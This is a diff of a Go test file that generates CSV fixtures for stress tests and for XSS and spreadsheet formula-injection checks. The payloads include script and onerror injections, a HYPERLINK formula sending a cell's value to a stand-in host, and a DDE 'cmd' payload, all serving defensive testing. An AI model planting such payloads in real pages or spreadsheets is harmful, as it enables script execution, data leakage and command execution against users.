@@ -33,7 +33,7 @@ func texts() map[string]func() []byte {
 		"cell10m.csv":       csv(head + row(strings.Repeat("Я", 5<<20))),
 		"columns100k.csv":   csv("Телефон" + strings.Repeat(";x", 100_000) + "\n+79110007919\n"),
 		"one-line.csv":      csv(strings.Repeat("+79110007919 ", 400_000)),
-		"names-xss.csv": csv(head + strings.Join([]string{row(`<script>alert(1)</script>`), row(`"><img src=x onerror=alert(1)>`),
+		"names-xss.csv": csv(head + strings.Join([]string{row(`<script>alert(1)</script>`), row(`"""><img src=x onerror=alert(1)>"`),
 			row(`</title><svg onload=alert(1)>`), row("javascript:alert(1)"), row("{{.}}{{constructor}}"), row("<!--"), row("&lt;b&gt;")}, "")),
 		"names-formula.csv": csv(head + strings.Join([]string{row(`=1+1`), row(`+1`), row(`-1`), row(`@SUM(A1)`), row("\t=1"), row("＝1+1"),
 			row(" =1"), row("\u200b=1"), row(`"=HYPERLINK(""http://x.example/?""&A1;""жми"")"`), row(`"=cmd|'/c calc'!A1"`)}, "")),
